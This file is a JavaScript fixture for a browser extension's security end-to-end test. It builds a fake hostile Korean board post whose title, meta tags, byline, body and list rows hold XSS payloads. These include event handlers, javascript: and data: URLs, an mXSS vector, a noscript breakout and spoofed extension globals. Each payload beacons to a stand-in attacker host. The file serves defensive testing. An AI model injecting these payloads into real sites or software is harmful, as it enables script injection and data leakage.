// A hostile Rhymix board post (www.hostile-news.kr) for the security end-to-end test: every place
// the extension reads (title, og:title, headline, byline, body, board rows, links) carries active
// content. Each payload, if it ever runs, calls P(name): it sets window.__pwned, posts a message
// to its opener/parent and fetches https://beacon.hostile-news.kr/run/<name>, which the fixture
// server records. The test asserts that none of that happens in any extension page.
//
// The page's own Content-Security-Policy (a nonce) keeps the payloads from running in the page
// itself, so a beacon can only come from somewhere else. The page's one trusted script plays the
// hostile site: it plants look-alikes of the extension's globals (__scrapnoteAnalyze,
// __scrapnoteHighlighter) in the page's world, records every node others add to its DOM and every
// message posted to it, and looks for a way to reach the extension.

export const HOSTILE_HOST = 'www.hostile-news.kr';
export const BEACON_HOST = 'beacon.hostile-news.kr';
export const HOSTILE_POST_ID = 666;
export const HOSTILE_URL = `https://${HOSTILE_HOST}/board/${HOSTILE_POST_ID}`;
export const HOSTILE_BOARD_URL = `https://${HOSTILE_HOST}/board`;
export const NONCE = 'hostile-page-own-script';
/** A sentence of the post, for selecting and highlighting it. */
export const QUOTE = '이 게시물은 확장 프로그램의 보안을 시험하기 위한 문서입니다';

/** JS run by a payload; single quotes only, so it fits in a double-quoted attribute. */
const P = (name) =>
  `window.__pwned=(window.__pwned||[]).concat('${name}');` +
  `try{fetch('https://${BEACON_HOST}/run/${name}?from='+encodeURIComponent(location.href))}catch(e){}` +
  `try{(window.opener||window.parent||window).postMessage({pwned:'${name}'},'*')}catch(e){}`;

const escAttr = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const escText = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** Markup payloads, each named by where it sits; `where` makes the names unique. */
export function payloads(where) {
  const n = (k) => `${where}-${k}`;
  return [
    `<script>${P(n('script'))}</script>`,
    `<img src="https://${HOSTILE_HOST}/missing.png" alt="깨진 그림" onerror="${P(n('onerror'))}">`,
    `<a href="javascript:${P(n('js-link'))}">원문 보기</a>`,
    `<a href=" JaVaScRiPt:${P(n('js-link-case'))}">대소문자 링크</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">데이터 링크</a>`,
    `<svg onload="${P(n('svg-onload'))}"><circle r="2"></circle></svg>`,
    `<iframe srcdoc="${escAttr(`<script>${P(n('srcdoc')).replaceAll('window.', 'top.')}</script>`)}"></iframe>`,
    `<div style="background-image:url(javascript:${P(n('css-url'))})">배경 스타일</div>`,
    `<details open ontoggle="${P(n('ontoggle'))}"><summary>자세히</summary>펼친 내용</details>`,
    `<input autofocus onfocus="${P(n('autofocus'))}" value="입력">`,
    `<video src="https://${HOSTILE_HOST}/none.mp4" onerror="${P(n('video'))}"></video>`,
    `<object data="javascript:${P(n('object'))}"></object><embed src="javascript:${P(n('embed'))}">`,
    `<form action="javascript:${P(n('form'))}"><button formaction="javascript:${P(n('formaction'))}">보내기</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${P(n('mxss'))}"></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${P(n('noscript')).replaceAll(' ', '')}>"></p></noscript>`,
    `<a href="https://${HOSTILE_HOST}/safe" onclick="${P(n('onclick'))}" onmouseover="${P(n('onmouseover'))}">안전해 보이는 링크</a>`,
    `<p><img src="https://${BEACON_HOST}/pixel/${where}.png" alt="추적 픽셀" width="1" height="1"></p>`,
  ];
}

/** The same payloads as text (what a title or byline may say), to be shown literally. */
const asText = (where) => `<img src=x onerror="${P(`${where}-text`)}"><script>${P(`${where}-text-script`)}</script>`;

/** Title as the page prints it: markup written into it must come back as text. */
export const HOSTILE_TITLE = `보안 시험 게시물 ${asText('title')}`;
export const HOSTILE_BYLINE = `악성작성자 ${asText('byline')}`;

const ROWS = [
  { id: 667, title: `목록 제목 ${asText('row')}`, href: '/board/667' },
  { id: 668, title: '자바스크립트 주소 행', href: `javascript:${P('row-js-href')}` },
  { id: 669, title: '평범한 다음 글', href: '/board/669' },
];

function boardList(currentId) {
  return `<div class="board_list" id="board_list"><table width="100%" border="1" cellspacing="0" summary="List of Articles">
<thead><tr><th scope="col">번호</th><th scope="col" class="title">제목</th><th scope="col">글쓴이</th><th scope="col">날짜</th><th scope="col">조회 수</th></tr></thead><tbody>
<tr${currentId === HOSTILE_POST_ID ? ' class="select"' : ''}><td class="no">${currentId === HOSTILE_POST_ID ? '&raquo;' : HOSTILE_POST_ID}</td><td class="title"><a href="/board/${HOSTILE_POST_ID}">${escText(HOSTILE_TITLE)}</a></td><td class="author"><a href="#popup_menu_area" class="member_6" onclick="${P('row-author-onclick')}">${escText(HOSTILE_BYLINE)}</a></td><td class="time">2025.02.05</td><td class="readNum">66</td></tr>
${ROWS.map(
  (
    r,
  ) => `<tr><td class="no">${r.id}</td><td class="title"><a href="${escAttr(r.href)}" onmouseover="${P('row-onmouseover')}">${escText(r.title)}</a> <a href="/board/${r.id}#comment" class="replyNum" title="댓글">[1]</a>${payloads(`row${r.id}`)[1]}</td>
<td class="author"><a href="#popup_menu_area" class="member_7">${escText(`작성자 ${asText(`row${r.id}-author`)}`)}</a></td><td class="time">2025.02.05</td><td class="readNum">7</td></tr>`,
).join('\n')}
</tbody></table></div>`;
}

/** The page's own (trusted, nonce'd) script: the hostile site's probes. */
function ownScript() {
  return `<script nonce="${NONCE}">
(() => {
  const probe = (window.__probe = { added: [], attributes: [], messages: [], runtime: null, highlights: [] });
  // Look-alikes of the extension's globals, in the page's world. Called by anyone, they report it.
  window.__scrapnoteAnalyze = () => { ${P('spoof-analyze')}; return { ok: true, value: { url: 'javascript:alert(1)', kind: 'article' } }; };
  window.__scrapnoteHighlighter = new Proxy({}, { get() { ${P('spoof-highlighter')}; return () => undefined; } });
  // Every node or attribute another script adds to this page.
  new MutationObserver((records) => {
    for (const r of records) {
      if (r.type === 'attributes') probe.attributes.push(r.target.nodeName + '@' + r.attributeName + '=' + String(r.target.getAttribute(r.attributeName)).slice(0, 200));
      for (const n of r.addedNodes) probe.added.push(n.nodeName + ':' + (n.textContent || '').slice(0, 500) + ':' + (n.outerHTML || '').slice(0, 500));
    }
  }).observe(document.documentElement, { subtree: true, childList: true, attributes: true, characterData: true });
  // The parser's own insertions are the page's: record only what is added once it has loaded.
  addEventListener('DOMContentLoaded', () => { probe.added.length = 0; probe.attributes.length = 0; });
  addEventListener('message', (e) => probe.messages.push(JSON.stringify(e.data).slice(0, 500)));
  // A web page has no extension messaging without externally_connectable.
  probe.runtime = typeof chrome !== 'undefined' && chrome.runtime ? Object.keys(chrome.runtime) : null;
})();
</script>`;
}

/** The hostile post: a Rhymix board post with its board's list below. */
export function hostilePost() {
  const body = [
    `<p>${QUOTE}. 본문에는 여러 가지 공격 코드가 섞여 있지만 저장된 사본에서는 아무것도 실행되면 안 됩니다.</p>`,
    ...payloads('body').map(
      (p, i) => `${p}\n<p>공격 코드 사이의 평범한 문단 ${i + 1}번입니다. 확장 프로그램은 이 글을 읽고 저장합니다.</p>`,
    ),
    `<p>서울=악성뉴스 ${escText(HOSTILE_BYLINE)} 기자</p>`,
  ].join('\n');
  return `<!doctype html><html lang="ko"><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-${NONCE}'; object-src 'none'">
<meta name="generator" content="Rhymix">
<title>${escText(HOSTILE_TITLE)} - 악성뉴스</title>
<meta property="og:type" content="article"><meta property="og:title" content="${escAttr(HOSTILE_TITLE)}">
<meta property="og:site_name" content="${escAttr(`악성뉴스 ${asText('site')}`)}">
<meta property="og:description" content="${escAttr(`요약 ${asText('excerpt')}`)}">
<meta property="og:article:published_time" content="2025-02-05T15:02:11+09:00">
<link rel="canonical" href="${HOSTILE_URL}">
${ownScript()}
</head><body><div class="xe"><header class="header"><h1><a href="/">악성뉴스</a></h1></header>
<div class="body"><div class="content xe_content"><div class="board"><div class="board_read">
<div class="read_header"><h1><a href="/board/${HOSTILE_POST_ID}">${escText(HOSTILE_TITLE)}</a></h1>
<p class="time">2025.02.05 15:02</p><p class="meta"><a href="#popup_menu_area" class="author member_6">${escText(HOSTILE_BYLINE)}</a> <span class="read">조회 수 66</span></p></div>
<div class="read_body"><div class="document_${HOSTILE_POST_ID}_6 xe_content">
${body}
</div></div></div>
${boardList(HOSTILE_POST_ID)}</div></div></div></div></body></html>`;
}

/** The board's list page. */
export function hostileBoard() {
  return `<!doctype html><html lang="ko"><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-${NONCE}'; object-src 'none'">
<meta name="generator" content="Rhymix"><title>게시판 ${escText(asText('board-title'))} - 악성뉴스</title>${ownScript()}</head>
<body><div class="xe"><div class="body"><div class="content xe_content"><div class="board"><h2 class="board_title">${escText(`게시판 ${asText('board-name')}`)}</h2>
${boardList(null)}</div></div></div></div></body></html>`;
}

const html = (body) => ({ status: 200, type: 'text/html; charset=utf-8', body });

/** Answer for the hostile site and its beacon host, or null. */
export function hostileRoute(host, u) {
  if (host === BEACON_HOST) return { status: 204, type: 'text/plain', body: '' };
  if (host !== HOSTILE_HOST) return null;
  if (u.pathname === `/board/${HOSTILE_POST_ID}`) return html(hostilePost());
  if (u.pathname === '/board' || u.pathname === '/') return html(hostileBoard());
  return null;
}
